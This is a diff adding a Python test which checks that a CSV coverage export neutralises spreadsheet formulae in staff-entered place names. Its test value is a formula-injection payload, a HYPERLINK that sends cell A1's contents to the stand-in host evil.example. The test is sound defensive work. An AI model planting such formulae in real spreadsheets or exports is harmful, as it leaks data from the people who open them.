@@ -136,6 +136,19 @@ def test_coverage_csv(landscape):
     ]
 
 
+def test_coverage_csv_neutralises_formulae_in_names(landscape):
+    """Item 5: region and place names are staff input; a spreadsheet must not run them."""
+    town = landscape["region"].municipalities.get(name="Altstadt")
+    town.name = '=HYPERLINK("https://evil.example/?x="&A1,"Klick")'
+    town.save(update_fields=["name"])
+    table = monitoring.coverage([landscape["region"].pk])
+    lines = monitoring.coverage_csv(table).splitlines()
+    assert (
+        lines[1]
+        == 'Geest;"\'=HYPERLINK(""https://evil.example/?x=""&A1,""Klick"")";2;1;0;0;0;0;0;0'
+    )
+
+
 def test_stale_entries_and_moderation(landscape):
     ids = [landscape["region"].pk]
     counts = {model._meta.model_name: n for model, n in monitoring.stale_counts(ids)}
